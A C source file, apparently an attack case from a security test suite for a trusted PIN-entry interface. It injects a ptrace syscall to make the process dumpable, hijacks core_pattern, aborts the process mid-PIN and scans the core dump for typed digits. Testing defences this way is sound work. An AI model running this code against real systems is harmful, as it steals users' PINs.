// SPDX-License-Identifier: Apache-2.0
/*
 * Makes the trusted user interface dumpable again, with a system call that it is made
 * to make, aborts it when most of a PIN is typed, and takes the core that the kernel
 * hands to the program in core_pattern.
 *
 * attack: core_dump
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: the process dumps no core by itself; the way there, ptrace(2) and core_pattern, is shut
 *      to the REE, and the module gives no key to a process that is dumpable
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "file.h"
#include "memory.h"
#include "process.h"
#include "report.h"
#include "tracer.h"
#include "typing.h"

#define PATTERN	"/proc/sys/kernel/core_pattern"
#define RECEIVE	"|/attack/core_dump receive"
#define CORE	"/run/attack/core"
#define TYPED	6

/* As the kernel starts us for a core: it is our standard input. */
static int receive(void)
{
	int fd = open(CORE ".part", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	char buf[65536];
	ssize_t got;

	while (fd >= 0 && (got = read(STDIN_FILENO, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)got) != got)
			return 1;
	return fd < 0 || rename(CORE ".part", CORE);
}

static int make_dumpable(pid_t pid)
{
	long ret = tracer_stop(pid, 0);

	if (ret)
		return (int)ret;
	ret = tracer_call(pid, SYS_prctl, PR_SET_DUMPABLE, 1);
	tracer_release(pid);
	return (int)ret;
}

static int open_core(void)
{
	int i, fd = -1;

	for (i = 0; i < 30 && fd < 0; i++) {
		attack_wait(100);
		fd = open(CORE, O_RDONLY | O_CLOEXEC);
	}
	return fd;
}

/* The stack, as the core has it. */
static int search(int core, const struct memory_range *stack)
{
	size_t size = stack->end - stack->start;
	char *memory = malloc(size);
	Elf64_Ehdr header;
	Elf64_Phdr segment;
	int i;

	if (!memory || pread(core, &header, sizeof(header), 0) != sizeof(header))
		return -EIO;
	for (i = 0; i < header.e_phnum; i++) {
		off_t at = (off_t)(header.e_phoff + (size_t)i * sizeof(segment));

		if (pread(core, &segment, sizeof(segment), at) == sizeof(segment) &&
		    segment.p_type == PT_LOAD && segment.p_vaddr == stack->start) {
			ssize_t got = pread(core, memory, size, (off_t)segment.p_offset);

			return got > 0 ? (int)process_report_digits(memory, (size_t)got) : -EIO;
		}
	}
	return -ENOENT;
}

static int dump(pid_t pid)
{
	struct memory_range stack;
	int core, ret;

	ret = memory_find(pid, "[stack]", &stack);
	if (ret)
		return ret;
	unlink(CORE);
	kill(pid, SIGABRT);
	core = open_core();
	ret = core < 0 ? -ENOENT : search(core, &stack);
	unlink(CORE);
	return ret;
}

int main(int argc, char **argv)
{
	char pattern[128];
	pid_t pid;
	int ret;

	if (argc == 2 && !strcmp(argv[1], "receive"))
		return receive();
	attack_init();
	attack_ready();
	if (file_read(PATTERN, pattern, sizeof(pattern)) <= 0)
		attack_failed("no " PATTERN);
	ret = file_write(PATTERN, RECEIVE);
	if (ret)
		attack_failed(PATTERN ": %s", strerror(-ret));
	pid = process_wait_tui();
	ret = pid ? make_dumpable(pid) : -ESRCH;
	if (!ret && typing_wait(TYPED))
		ret = dump(pid);
	file_write(PATTERN, pattern);
	if (ret < 0)
		attack_failed("no core: %s", strerror(-ret));
	attack_succeeded("there is a core with %d numbers in it", ret);
}
